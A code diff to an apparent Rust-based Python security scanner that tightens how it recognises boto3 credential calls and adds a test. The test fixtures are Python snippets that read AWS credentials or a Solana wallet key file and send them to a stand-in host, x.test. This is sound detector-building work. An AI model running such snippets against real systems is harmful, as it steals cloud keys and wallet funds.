@@ -1879,7 +1879,8 @@ impl<'t> Py<'t> {
             return HOST;
         }
         // The host's cloud keys as the SDK resolved them (boto3/botocore).
-        if name.ends_with("get_credentials") || name.ends_with("get_frozen_credentials") {
+        let method = name.rsplit('.').next().unwrap_or_default();
+        if method == "get_credentials" || method == "get_frozen_credentials" {
             return HOST;
         }
         if name == "open" || name == "io.open" || name == "codecs.open" {
@@ -3600,6 +3601,12 @@ mod tests {
         assert!(rules(&run(sent)).contains(&"EXFIL-SEND-COLLECTED"));
         let used = "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.post('http://x.test/a', json={'region': 'eu'})\n";
         assert!(!rules(&run(used)).contains(&"EXFIL-SEND-COLLECTED"));
+        // Only the SDK's method by its own name: a helper whose name ends alike is not it.
+        let own = "import requests
+c = my_get_credentials()
+requests.post('http://x.test/a', json={'k': c})
+";
+        assert!(!rules(&run(own)).contains(&"EXFIL-SEND-COLLECTED"));
         // A wallet key file read and sent is stolen data.
         let wallet = "import os, json, urllib.request\nk = json.load(open(os.path.expanduser('~/.config/solana/id.json')))\nurllib.request.urlopen('https://x.test/k', data=json.dumps(k).encode())\n";
         let r = rules(&run(wallet));
